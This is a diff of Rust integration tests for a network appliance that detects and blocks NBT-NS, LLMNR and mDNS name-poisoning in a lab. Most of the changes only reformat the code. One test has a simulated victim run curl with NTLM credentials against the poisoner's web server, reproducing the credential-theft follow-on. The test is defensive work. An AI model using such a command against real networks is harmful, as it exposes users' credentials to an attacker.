@@ -89,7 +89,19 @@ fn lab_default_policy_stops_the_poisoner() {
     wait_for_nmbd(&lab);
     let alerts_file = s.path("alerts.jsonl");
     let mut app = Appliance::start(
-        &["run", "--profile", "hw-profiles/lab.toml", "--policy", "policies/default.policy", "--alerts", alerts_file.to_str().unwrap(), "--stats-interval", "0", "--alert-window", "60"],
+        &[
+            "run",
+            "--profile",
+            "hw-profiles/lab.toml",
+            "--policy",
+            "policies/default.policy",
+            "--alerts",
+            alerts_file.to_str().unwrap(),
+            "--stats-interval",
+            "0",
+            "--alert-window",
+            "60",
+        ],
         &s.path("run.log"),
     );
     app.wait_for("running:", Duration::from_secs(20));
@@ -138,9 +150,15 @@ fn lab_default_policy_stops_the_poisoner() {
     for want in ["nbns-poison", "llmnr-poison", "connect-to-poisoner"] {
         assert!(rules.contains(&want), "no {want} alert; alerts: {rules:?}");
     }
-    let poisoned: Vec<&Value> = docs.iter().filter(|d| ["nbns-poison", "llmnr-poison", "mdns-poison", "answer-from-poisoner"].contains(&d["rule"]["name"].as_str().unwrap_or(""))).collect();
+    let poisoned: Vec<&Value> = docs
+        .iter()
+        .filter(|d| ["nbns-poison", "llmnr-poison", "mdns-poison", "answer-from-poisoner"].contains(&d["rule"]["name"].as_str().unwrap_or("")))
+        .collect();
     assert!(poisoned.iter().any(|d| d["source"]["ip"] == "198.18.0.66"), "no IPv4 poisoner alert");
-    assert!(poisoned.iter().any(|d| d["source"]["ip"].as_str().map(|s| s.starts_with("fe80::") || s.starts_with("fd00:")).unwrap_or(false)), "no IPv6 poisoner alert");
+    assert!(
+        poisoned.iter().any(|d| d["source"]["ip"].as_str().map(|s| s.starts_with("fe80::") || s.starts_with("fd00:")).unwrap_or(false)),
+        "no IPv6 poisoner alert"
+    );
     assert!(poisoned.iter().all(|d| d["source"]["mac"] == "02-AD-00-00-00-66"), "alerts must carry the poisoner's MAC");
     assert!(docs.iter().all(|d| d["threat"]["technique"]["subtechnique"]["id"][0] == "T1557.001"));
 
@@ -170,7 +188,17 @@ fn lab_alert_only_policy_lets_poison_through_and_alerts() {
     wait_for_nmbd(&lab);
     let alerts_file = s.path("alerts.jsonl");
     let mut app = Appliance::start(
-        &["run", "--profile", "hw-profiles/lab.toml", "--policy", "policies/alert-only.policy", "--alerts", alerts_file.to_str().unwrap(), "--stats-interval", "0"],
+        &[
+            "run",
+            "--profile",
+            "hw-profiles/lab.toml",
+            "--policy",
+            "policies/alert-only.policy",
+            "--alerts",
+            alerts_file.to_str().unwrap(),
+            "--stats-interval",
+            "0",
+        ],
         &s.path("run.log"),
     );
     app.wait_for("running:", Duration::from_secs(20));
@@ -181,7 +209,8 @@ fn lab_alert_only_policy_lets_poison_through_and_alerts() {
     assert!(out.contains("198.18.0.66 typo-name<00>"), "alert-only must not block NBT-NS:\n{out}");
     // The credential-theft follow-on goes through (alert-only) and is alerted: the victim
     // authenticates with NTLM to the poisoner's web server, which answers with its challenge.
-    let (code, _) = victim(&lab, &["curl", "-s", "-m", "5", "--ntlm", "-u", "alice:Secret1", "-o", "/dev/null", "-w", "%{http_code}", "http://198.18.0.66/share"]);
+    let (code, _) =
+        victim(&lab, &["curl", "-s", "-m", "5", "--ntlm", "-u", "alice:Secret1", "-o", "/dev/null", "-w", "%{http_code}", "http://198.18.0.66/share"]);
     assert_eq!(code.trim(), "401", "the poisoner's NTLM exchange did not happen");
     assert!(actors.poisoner_answers_proto("http-ntlm-challenge") >= 1, "no NTLM challenge was sent");
     std::thread::sleep(Duration::from_millis(300));
